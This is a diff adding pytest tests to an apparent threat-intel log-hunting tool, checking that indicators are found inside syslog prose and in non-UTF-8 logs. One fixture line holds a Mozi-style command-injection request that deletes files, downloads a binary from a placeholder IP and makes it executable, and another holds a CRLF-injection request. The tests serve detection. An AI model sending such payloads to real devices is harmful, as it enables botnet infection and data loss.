@@ -60,3 +60,39 @@ def test_a_finding_shows_what_the_log_has(log, tmp_path):
     assert done.status == 0
     done = run("evidence", "negative", "--question", "Was it there?", "--tenant", "alpha", "--intel", tmp_path / "list.txt")
     assert done.status == 1, "it was there"
+
+
+PROSE = [  # what programs write around values in a syslog
+    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/Mozi.a;chmod+777+Mozi.a",
+    "GET /r?u=a%0d%0aHost:%20crlf.example%00 HTTP/1.1",
+    "assigning 2001:db8::1...2001:db8::9 to pool",
+    "\U0001f6a8emoji.example\U0001f6a8 \ufffdreplaced.example",
+    "moved C:\\Temp\\arrow.exe->D:\\x.exe",
+]
+IN_PROSE = ["http://198.51.100.7/Mozi.a", "crlf.example", "2001:db8::9", "emoji.example", "replaced.example", "C:\\Temp\\arrow.exe"]
+
+
+def test_what_stands_beside_signs_is_found(empty_case, tmp_path):
+    path = tmp_path / "prose.log"
+    path.write_text("".join(f"2024-03-01T08:00:0{i}Z web1 app: {line}\n" for i, line in enumerate(PROSE)))
+    (tmp_path / "list.txt").write_text("".join(value + "\n" for value in IN_PROSE))
+    done = run("hunt", path, "--intel", tmp_path / "list.txt", "--format", "jsonl")
+    assert len(done.rows) == len(IN_PROSE), done.err
+    assert run("ingest", path, "--tenant", "alpha").status == 0
+    for value in IN_PROSE:
+        assert run("lookup", value, "--format", "jsonl").rows[0]["seen"], value
+
+
+def test_of_a_log_that_is_no_utf8_ascii_is_found_and_the_rest_told(empty_case, tmp_path):
+    path = tmp_path / "ansi.log"
+    path.write_bytes("".join(f"2024-03-01T08:00:0{i}Z pc1 app: {line}\n" for i, line in enumerate(
+        ["Zugriff auf \u201equoted.example\u201c verweigert", "C:\\Temp\\J\u00f6rg.exe", "plain"])).encode("cp1252"))
+    (tmp_path / "list.txt").write_text("quoted.example\n")
+    done = run("hunt", path, "--intel", tmp_path / "list.txt", "--format", "jsonl")
+    assert len(done.rows) == 1 and "warning[BT0227]: 2 lines are no UTF-8" in done.err, done.err
+    told = run("ingest", path, "--tenant", "alpha")
+    assert told.status == 0 and "BT0227" in told.err
+    assert run("lookup", "quoted.example", "--format", "jsonl").rows[0]["seen"]
+    (row,) = run("lookup", "C:\\Temp\\J\u00f6rg.exe", "--format", "jsonl").rows
+    assert row["coverage"] == "partial" and "2 records hold bytes that are no UTF-8" in json.dumps(row["not_looked"])
+    assert run("lookup", "C:\\Temp\\other.exe", "--format", "jsonl").rows[0]["coverage"] == "complete"
